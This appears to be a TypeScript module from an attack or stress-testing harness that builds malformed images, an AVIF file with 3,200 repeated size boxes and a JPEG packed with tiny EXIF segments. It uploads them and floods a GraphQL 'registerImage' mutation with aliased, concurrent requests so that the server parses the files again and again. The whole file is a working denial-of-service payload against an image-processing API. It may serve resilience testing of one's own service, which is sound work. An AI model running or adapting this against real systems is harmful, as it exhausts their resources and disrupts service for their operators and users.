import { type Attack, many, tally } from "../attack.ts";

const segments = Buffer.alloc(512 * 1024, Buffer.from([0xff, 0xe1, 0, 8, ...Buffer.from("Exif\0\0")]));

const uint32 = (value: number) => Buffer.from([24, 16, 8, 0].map((shift) => (value >>> shift) & 255));
const box = (name: string, ...content: Buffer[]) => {
  const inner = Buffer.concat(content);
  return Buffer.concat([uint32(inner.length + 8), Buffer.from(name), inner]);
};
const sizes = box("ispe", uint32(0), uint32(3), uint32(2));
const avif = Buffer.concat([
  box("ftyp", Buffer.from("avif"), uint32(0), Buffer.from("avif")),
  box("meta", uint32(0), box("iprp", box("ipco", ...many(3_200, () => sizes)))),
]);

/** Identifiers that are refused, so that the file is never registered; none, so that it is read. */
const identifiers = ["x".repeat(513), " x ", undefined];

/** Has uploaded files looked at again and again. */
function imageAttack(name: string, file: Buffer): Attack {
  const registering = (key: string, alias: number) => {
    const identifier = identifiers[alias % identifiers.length];
    const given = identifier === undefined ? "" : `, resourceIdentifier: "${identifier}"`;
    return `a${alias}: registerImage(imageKey: "${key}"${given}) { ... on Image { key } ... on BasicError { errorName } }`;
  };
  const queryOf = (keys: readonly string[]) => `mutation { ${keys.map(registering).join(" ")} }`;
  return {
    name,
    async prepare({ client }) {
      // Throws if the query is refused: then nothing would be attacked.
      await client.graphql(queryOf(["nothing"]));
    },
    run: async ({ client, post, over }) => {
      const blob = new Blob([new Uint8Array(file)]);
      const keys = await Promise.all(many(9, () => client.upload(blob, "MEDIA")));
      const body = JSON.stringify({ query: queryOf(keys) });
      let said = "nothing";
      for (let round = 0; round < 200 && !over.aborted; round++)
        said = tally(
          await Promise.all(
            many(16, () =>
              post(body).then(
                ({ status }) => status,
                (error: Error) => error.name,
              ),
            ),
          ),
        );
      return said;
    },
  };
}

/** Files whose headers a careless reader looks at for long. */
export const imageAttacks: Attack[] = [
  imageAttack("an-image-of-3200-sizes", avif),
  imageAttack("an-image-of-tiny-segments", Buffer.concat([Buffer.from([0xff, 0xd8]), segments])),
];
